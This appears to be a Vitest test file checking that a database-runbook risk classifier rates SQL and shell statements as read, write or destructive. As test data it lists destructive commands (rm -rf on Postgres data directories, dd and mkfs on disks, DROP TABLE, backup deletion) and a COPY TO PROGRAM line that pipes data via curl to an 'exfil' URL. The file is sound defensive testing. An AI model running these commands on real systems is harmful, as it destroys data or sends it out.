// The labelled risk corpus: destructive recall is 100% (nothing destructive is rated below it), and
// every reproduction listed in issue 11 is in the corpus with the risk it must get. The accuracy and
// the confusion matrix are figures for `npm run bench` (risk_corpus_*), not asserted here.
import { beforeAll, describe, expect, it } from 'vitest';
import { ensureParsers } from '../../src/runbook/parsers.js';
import { classifyRisk } from '../../src/runbook/risk.js';
import type { Risk, StatementKind } from '../../src/runbook/model.js';
import { figures, judge, loadCorpus, type Judged } from '../../bench/lib/risk-corpus.js';

let judged: Judged[];

beforeAll(async () => {
  await ensureParsers();
  judged = judge(loadCorpus());
});

/** Issue 11's reproductions, exactly as listed there (shortened forms written out as a runbook would). */
const ISSUE_11: [StatementKind, string, Risk][] = [
  ['sql', "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$", 'destructive'],
  ['sql', "COPY (SELECT 1) TO PROGRAM 'curl -d @- https://example.com/exfil';", 'destructive'],
  ['sql', "SELECT dblink_exec('dbname=x', 'DROP TABLE t');", 'destructive'],
  ['sql', 'DELETE FROM t WHERE true;', 'destructive'],
  ['sql', 'MERGE INTO animals a USING animals_backup b ON a.id = b.id WHEN MATCHED THEN DELETE;', 'destructive'],
  ['sql', 'SELECT lo_unlink(12345);', 'destructive'],
  ['sql', 'SELECT pg_promote();', 'destructive'],
  ['sql', "SELECT app.drop_partition('events_2023_01');", 'destructive'],
  ['sql', 'SELECT purge_old_events(90);', 'destructive'],
  ['sql', 'SELECT wipe();', 'destructive'],
  ['sql', 'SELECT destroy_tenant(42);', 'destructive'],
  ['sql', "SELECT backup_recovery.restore_table('animals_20240101', 'animals', 'replace');", 'destructive'],
  ['sql', 'SELECT backup_recovery.cleanup_old_backups(30);', 'destructive'],
  ['sql', 'SELECT pg_terminate_backend(<pid>);', 'destructive'],
  ['shell', 'kubectl delete pod cluster-example-1 -n database', 'destructive'],
  ['shell', 'oc delete pod x --force', 'destructive'],
  ['shell', "ssh db-3 'sudo rm -rf /var/lib/postgresql/16/main'", 'destructive'],
  ['shell', "knife ssh 'role:gitlab-base-db-patroni' 'sudo rm -rf /var/opt/gitlab/postgresql/data' -x ubuntu", 'destructive'],
  ['shell', 'patronictl failover --force', 'destructive'],
  ['shell', 'patronictl remove pg-ha', 'destructive'],
  ['shell', 'patronictl reinit pg-ha db-2', 'destructive'],
  ['shell', 'terraform destroy', 'destructive'],
  ['shell', 'systemctl stop postgresql', 'destructive'],
  ['shell', 'dd if=/dev/zero of=/dev/sdb bs=1M count=100', 'destructive'],
  ['shell', 'mkfs.ext4 /dev/nvme1n1', 'destructive'],
  ['shell', 'truncate -s 0 /var/log/postgresql/postgresql-16-main.log', 'destructive'],
  ['shell', "find /var/lib/postgresql/16/main/pg_wal -name '0000*' -mtime +7 -delete", 'destructive'],
  ['shell', 'ls *.tmp | xargs rm', 'destructive'],
  ['shell', 'docker rm -f pg', 'destructive'],
  ['shell', 'crontab -r', 'destructive'],
  ['shell', 'redis-cli FLUSHALL', 'destructive'],
  ['shell', "bash -c 'rm -rf /tmp/x'", 'destructive'],
  ['shell', 'timeout 5 rm /tmp/lockfile', 'destructive'],
  ['shell', "echo 'DROP TABLE x;' | psql", 'destructive'],
  ['shell', 'cat f.sql | psql', 'write'],
  ['shell', "env PGPASSWORD=secret psql -h db -c 'DROP TABLE t'", 'destructive'],
  ['shell', 'env PGHOST=db-1 dropdb showtrack', 'destructive'],
  ['shell', `awk 'BEGIN{system("rm -rf /tmp/cache")}'`, 'destructive'],
  ['shell', 'pg_restore -Fc -d app dump.fc', 'write'],
  ['shell', 'pg_restore --clean -d showtrack /backups/showtrack.dump', 'destructive'],
];

describe('the labelled risk corpus', () => {
  it('has 300+ statements of every family', () => {
    expect(judged.length).toBeGreaterThanOrEqual(300);
    for (const kind of ['sql', 'shell', 'psql-meta'] as const) expect(judged.some((j) => j.kind === kind)).toBe(true);
    for (const risk of ['read', 'write', 'destructive'] as const) expect(judged.filter((j) => j.risk === risk).length).toBeGreaterThan(50);
  });

  it('rates every destructive statement destructive (recall 100%)', () => {
    const missed = judged.filter((j) => j.risk === 'destructive' && j.got !== 'destructive').map((j) => `${j.got}: ${j.text}`);
    expect(missed).toEqual([]);
    expect(figures(judged).destructiveRecall).toBe(1);
  });

  it('never rates a write statement read', () => {
    expect(judged.filter((j) => j.risk === 'write' && j.got === 'read').map((j) => j.text)).toEqual([]);
  });

  it('gives every risk above read a reason, and no reason names an option as a file', () => {
    for (const j of judged) {
      if (j.got !== 'read') expect(j.reasons.length, j.text).toBeGreaterThan(0);
      for (const reason of j.reasons) expect(reason, j.text).not.toMatch(/\bwrites -|ends other sessions' work/);
    }
  });

  it.each(ISSUE_11)('issue 11: %s %j is in the corpus and rated %s', (kind, text, risk) => {
    const row = judged.find((j) => j.kind === kind && j.text === text);
    expect(row, 'missing from corpus.jsonl').toBeDefined();
    expect(row!.risk).toBe(risk);
    expect(classifyRisk(text, kind).risk).toBe(risk);
  });
});

/** Backup tools, knife and git, verb by verb: deleting backups is destructive, listing them is a read. */
const BACKUP_AND_GIT: [string, Risk][] = [
  ['sudo -iu postgres pgbackrest --stanza=orders expire --set=20260101-020000F', 'destructive'],
  ['pgbackrest --stanza=orders --repo=1 expire', 'destructive'],
  ['sudo -iu postgres pgbackrest --stanza=orders info', 'read'],
  ['pgbackrest --stanza=orders repo-ls', 'read'],
  ['/usr/bin/envdir /etc/wal-g.d/env /opt/wal-g/bin/wal-g delete retain FULL 3 --confirm', 'destructive'],
  ['envdir /etc/wal-g.d/env wal-g backup-list --detail', 'read'],
  ['wal-g st rm basebackups_005/base_000000010000000A00000042', 'destructive'],
  ['barman delete pg-orders oldest', 'destructive'],
  ['barman list-backup pg-orders', 'read'],
  ['barman show-backup pg-orders latest', 'read'],
  ['barman recover pg-orders latest /var/lib/postgresql/16/main', 'destructive'],
  ['barman backup pg-orders', 'write'],
  ["barman-cloud-backup-delete --retention-policy 'RECOVERY WINDOW OF 14 DAYS' s3://pg-backups orders", 'destructive'],
  ['barman-cloud-backup-list s3://pg-backups orders', 'read'],
  ['pg_probackup delete -B /srv/probackup --instance orders --delete-expired', 'destructive'],
  ['pg_probackup del-instance -B /srv/probackup --instance orders', 'destructive'],
  ['pg_probackup show -B /srv/probackup --instance orders', 'read'],
  ['pg_probackup backup -B /srv/probackup --instance orders -b DELTA', 'write'],
  ["knife node bulk delete '^pg-replica-[0-9]+\\.example\\.internal$'", 'destructive'],
  ["knife client bulk delete '^pg-replica-'", 'destructive'],
  ['knife data bag delete pg-secrets', 'destructive'],
  ['knife node show pg-replica-1.example.internal', 'read'],
  ['git ls-remote --tags https://example.com/ops/runbooks.git', 'read'],
  ['git -C /opt/runbooks log --oneline -3', 'read'],
  ['git -C /opt/runbooks status --short', 'read'],
  ['git show HEAD:config/database.yml', 'read'],
  ['git diff --stat HEAD~1', 'read'],
  ['git remote add upstream https://example.com/ops/runbooks.git', 'write'],
  ['sudo -Eu postgres rm -rf /var/lib/postgresql/16/old', 'destructive'],
];

describe('backup tools, knife and git verbs', () => {
  it.each(BACKUP_AND_GIT)('%j is in the corpus and rated %s', (text, risk) => {
    const row = judged.find((j) => j.kind === 'shell' && j.text === text);
    expect(row, 'missing from corpus.jsonl').toBeDefined();
    expect(row!.risk).toBe(risk);
    expect(classifyRisk(text, 'shell').risk).toBe(risk);
  });
});

describe('reasons and targets a confirmation can use', () => {
  it.each([
    ['shell', "ssh db-3 'sudo rm -rf /var/lib/postgresql/16/main'", 'on db-3: rm deletes files', '/var/lib/postgresql/16/main', { kind: 'host', name: 'db-3' }],
    ['shell', 'kubectl delete pod cluster-example-1 -n database', 'kubectl delete deletes Kubernetes resources', 'cluster-example-1', { kind: 'namespace', name: 'database' }],
    ['shell', "kubectl exec -it cluster-example-1 -n database -- psql -c 'TRUNCATE audit_log'", 'in pod cluster-example-1: psql -c: TRUNCATE', 'audit_log', { kind: 'pod', name: 'cluster-example-1' }],
    ['shell', 'kill -9 4242', 'kill ends process 4242', '4242', { kind: 'pid', name: '4242' }],
    ['shell', 'dropdb -h db-1 -U postgres showtrack_restore', 'dropdb drops a database', 'showtrack_restore', { kind: 'database', name: 'showtrack_restore' }],
    ['shell', 'pg_restore --clean -d showtrack /backups/showtrack.dump', "pg_restore --clean drops the dump's objects before recreating them", 'showtrack', { kind: 'database', name: 'showtrack' }],
    ['shell', 'curl -o /tmp/dump.sql https://backups.example.com/latest.sql', 'curl saves https://backups.example.com/latest.sql to /tmp/dump.sql', undefined, { kind: 'file', name: '/tmp/dump.sql' }],
    ['sql', "SELECT pg_drop_replication_slot('standby_2');", 'pg_drop_replication_slot() drops replication slot standby_2; its consumer loses its position', 'standby_2', { kind: 'slot', name: 'standby_2' }],
    ['sql', 'SELECT pg_terminate_backend([pid]);', 'pg_terminate_backend() ends the session of backend [pid]', '[pid]', { kind: 'pid', name: '[pid]' }],
    ['sql', "SELECT backup_recovery.restore_table('b1', 'animals');", "restore_table with mode 'replace' makes animals exactly the backup: rows the backup lacks are deleted, the others overwritten", 'animals', { kind: 'table', name: 'animals' }],
    ['sql', "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 'x'); END $$", "DO block: EXECUTE runs SQL built at run time (format('DROP TABLE %I', 'x')): it cannot be read before it runs", undefined, undefined],
    ['sql', 'SELECT pg_terminate_backend(pid FROM pg_stat_activity;', 'the SQL parser rejected it (syntax error at or near "FROM"); it calls pg_terminate_backend()', undefined, undefined],
    // `<pid>` is a fill-in (placeholders.ts), named as written.
    ['sql', 'SELECT pg_terminate_backend(<pid>);', 'pg_terminate_backend() ends the session of backend <pid>', '<pid>', { kind: 'pid', name: '<pid>' }],
  ] as const)('%s %j', (kind, text, reason, confirm, extra) => {
    const result = classifyRisk(text, kind);
    expect(result.reasons).toContain(reason);
    expect(result.confirmTarget).toBe(confirm);
    if (extra) expect(result.targets).toContainEqual(extra);
  });
});
